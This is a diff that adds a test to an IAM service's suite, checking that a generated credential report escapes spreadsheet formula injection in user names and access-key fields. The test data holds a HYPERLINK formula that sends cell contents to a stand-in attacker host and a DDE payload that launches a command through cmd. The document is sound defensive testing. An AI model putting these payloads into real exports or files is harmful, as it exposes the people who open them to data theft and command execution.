@@ -256,3 +256,37 @@ async def test_who_may_generate_and_read_the_report(users_env: IamEnv) -> None:
     assert (await refused(nobody, "get_credential_report"))[0] == "AccessDenied"
     failures = await audit(env, "iam.GenerateCredentialReport")
     assert [e.outcome for e in failures] == ["failure", "failure"]
+
+
+async def test_formulas_from_outside_are_not_run_by_a_spreadsheet(users_env: IamEnv) -> None:
+    """The attack: a federated user's name is whatever its identity provider says, and an
+    access key's last-used region whatever its signer put in the credential scope; an auditor
+    opening the report in a spreadsheet must not run them as formulas."""
+    env = users_env
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    user = await store(env).upsert_federated_user(
+        "fake", "mallory", name=evil, email="", groups=(), now=time.time()
+    )
+    await insert_access_key(
+        store(env),
+        user.id,
+        "AKIAEVIL",
+        created_at=time.time(),
+        last_used_at=time.time(),
+        region="@SUM(1+1)*cmd|' /C calc'!A0",
+        service="-2+3",
+    )
+    iam = await env.client("admin")
+    await generated(iam)
+    _, rows = parse((await call(iam, "get_credential_report"))["Content"])
+    row = rows["'" + evil]  # the name, kept whole, behind a quote
+    assert row[1] == env.arn("user", evil)  # an ARN starts with "arn:": as it is
+    assert row[8:13] == [
+        "true",
+        row[9],
+        row[10],
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "'-2+3",
+    ]
+    for cell in (c for r in rows.values() for c in r):
+        assert not cell.startswith(("=", "+", "-", "@")), cell
